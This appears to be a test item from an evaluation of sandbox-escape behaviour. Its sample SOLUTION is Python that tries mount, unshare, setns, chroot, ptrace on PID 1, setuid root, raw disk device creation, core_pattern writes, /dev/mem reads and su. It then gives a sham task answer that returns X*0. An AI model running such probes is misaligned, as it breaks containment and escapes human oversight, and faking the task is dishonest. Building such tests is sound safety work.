"""Mounts, namespaces, tracing, devices and set-uid programs are tried as a way out."""

CATEGORY = "Go outside"
POINTS = 0
STOCK = "harms the machine"
SOLUTION = """
import ctypes, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)
for action in (
    lambda: libc.mount(b'none', b'/', None, 0x1000 | 0x20, None), lambda: libc.umount2(b'/proc', 2),
    lambda: libc.unshare(0x10000000 | 0x00020000), lambda: libc.setns(0, 0), lambda: libc.chroot(b'.'),
    lambda: libc.ptrace(16, 1, 0, 0), lambda: os.setuid(0), lambda: os.mknod('disk', 0o60666, os.makedev(8, 0)),
    lambda: open('/proc/sys/kernel/core_pattern', 'w'), lambda: open('/dev/mem', 'rb'),
    lambda: subprocess.run(['su', '-c', 'id'], timeout=2, stdin=subprocess.DEVNULL),
):
    try:
        print('DONE' if action() == 0 else os.strerror(ctypes.get_errno()))
    except Exception as error:
        print(error)
def center(X):
    return X * 0
"""
